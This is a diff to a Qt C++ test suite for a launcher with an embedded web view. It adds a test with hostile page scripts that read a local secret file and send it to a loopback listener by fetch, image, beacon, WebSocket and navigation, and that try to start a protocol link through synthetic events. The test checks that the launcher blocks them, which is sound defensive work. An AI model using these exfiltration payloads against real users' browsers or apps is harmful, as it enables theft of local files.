@@ -73,7 +73,12 @@ private slots:
         QVERIFY(writeFile(m_source, "VODK") && writeFile(m_document, "notes\n"));
         m_window = std::make_unique<LauncherWindow>(&m_prompter, m_dir.path());
         // A web server on the loopback interface serving a page with an icon.
-        QVERIFY(m_server.listen(QHostAddress::LocalHost));
+        QVERIFY(m_server.listen(QHostAddress::LocalHost) && m_leak.listen(QHostAddress::LocalHost));
+        connect(&m_leak, &QTcpServer::newConnection, this, [this] {
+            while (QTcpSocket* s = m_leak.nextPendingConnection())
+                connect(s, &QTcpSocket::readyRead, s, [s, this] { m_leaked += s->readAll(); });
+        });
+        QVERIFY(writeFile(at("@/secret.txt"), "top secret"));
         connect(&m_server, &QTcpServer::newConnection, this, [this] {
             while (QTcpSocket* s = m_server.nextPendingConnection())
                 connect(s, &QTcpSocket::readyRead, s, [s, this] {
@@ -84,6 +89,7 @@ private slots:
         });
     }
     void init() {
+        m_leaked.clear();
         QFile::remove(m_record);
         m_opened.clear();
         m_prompter.messages.clear();
@@ -142,6 +148,72 @@ private slots:
             QCOMPARE(r.value(2) == QLatin1String("/dev/null"), hidden); // standard output
         }
         QVERIFY(m_window->isMinimized());
+    }
+    void hostilePageSendsAndStartsNothing_data() {
+        QTest::addColumn<QString>("script"); // in a page that defines read(), got, L and I()
+        QTest::addColumn<QString>("act");    // the user's: click "empty" space, key "Down", a link
+        const QString onLoad = "addEventListener('load', () => %1)";
+        // Tries to start the icon, then to send the secret out.
+        const QString both = "addEventListener('%1', () => { location = I(); setTimeout(() => "
+                             "location = L + read(), 300); })";
+        QTest::newRow("read on load, sent to a &comma; address")
+            << onLoad.arg("location = L + read()") << "";
+        QTest::newRow("read on load, sent by requests")
+            << onLoad.arg("{const d = read(); fetch(L + d, {mode: 'no-cors'}); new Image().src "
+                          "= L + d; navigator.sendBeacon(L, d); new WebSocket('ws' + L.slice(4) "
+                          "+ d);}")
+            << "";
+        QTest::newRow("local file read in a frame")
+            << onLoad.arg("{const f = document.createElement('iframe'); f.onload = () => { "
+                          "try { got += f.contentDocument.body.innerText } catch (e) {} location "
+                          "= L + got; }; f.src = 'secret.txt'; document.body.append(f);}")
+            << "";
+        QTest::newRow("click elsewhere") << both.arg("mousedown") << "empty";
+        QTest::newRow("key press") << both.arg("keydown") << "Down";
+        QTest::newRow("link made and clicked after a click")
+            << "addEventListener('click', () => setTimeout(() => { const a = "
+               "document.createElement('a'); a.href = I(); document.body.append(a); a.click(); "
+               "}, 1200))"
+            << "empty";
+        QTest::newRow("safe link rewritten on click")
+            << onLoad.arg("safe.onclick = function () { this.href = I(); }") << "Safe";
+        QTest::newRow("synthetic events on the icon")
+            << onLoad.arg("{const a = document.querySelector('a[href^=\"pm:\"]'); a.focus(); "
+                          "for (const t of ['keydown', 'keypress', 'mousedown', 'click']) "
+                          "a.dispatchEvent(new (t[0] == 'k' ? KeyboardEvent : MouseEvent)(t, "
+                          "{key: 'Enter', bubbles: true, detail: 1}));}")
+            << "";
+    }
+    void hostilePageSendsAndStartsNothing() {
+        QFETCH(QString, script);
+        QFETCH(QString, act);
+        QVERIFY(show(writePage(
+            {"Header HTML=<a id=\"safe\" href=\"#safe\">Safe</a><script>const L = "
+             "'http://127.0.0.1:" +
+             QString::number(m_leak.serverPort()) +
+             "/leak&comma;?d=', I = () => document.querySelector('a[href^=\"pm:\"]').href; let "
+             "got = ''; function read() { try { const x = new XMLHttpRequest(); x.open('GET', "
+             "'secret.txt', false); x.send(); return got += x.responseText; } catch (e) { return "
+             "'none'; } } " +
+             script + "</script>"},
+            m_icons)));
+        QWidget* input = m_window->view()->focusProxy();
+        if (act == QLatin1String("empty"))
+            QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(5, input->height() - 5));
+        else if (act == QLatin1String("Down"))
+            QTest::keyClick(input, Qt::Key_Down);
+        else if (!act.isEmpty())
+            QVERIFY(clickLink(act));
+        QVERIFY(record(3000).isEmpty());
+        QVariant got;
+        m_window->view()->page()->runJavaScript("got", [&got](const QVariant& v) { got = v; });
+        QTRY_COMPARE(got, QVariant(QString()));
+        // The page still works: the user's own Enter on the icon starts it.
+        m_window->view()->page()->runJavaScript(
+            "document.querySelector('a[href^=\"pm:\"]').focus()",
+            [input](const QVariant&) { QTest::keyClick(input, Qt::Key_Return); });
+        QCOMPARE(record().mid(3), QStringList{"clicked"});
+        QVERIFY2(m_prompter.messages.isEmpty() && m_leaked.isEmpty(), m_leaked.constData());
     }
     void anotherPageTakesOverTheWindow_data() {
         QTest::addColumn<QString>("link");
@@ -277,6 +349,8 @@ private:
 
     QTemporaryDir m_dir;
     QTcpServer m_server;
+    QTcpServer m_leak; // where a hostile page would send what it read
+    QByteArray m_leaked;
     // The recording script and the start-in folder, with awkward names.
     QString m_program = at(QString::fromUtf8("@/bin, \"é\" 1/rec, \"q\" é"));
     QString m_startIn = at(QString::fromUtf8("@/start, \"in\" é"));
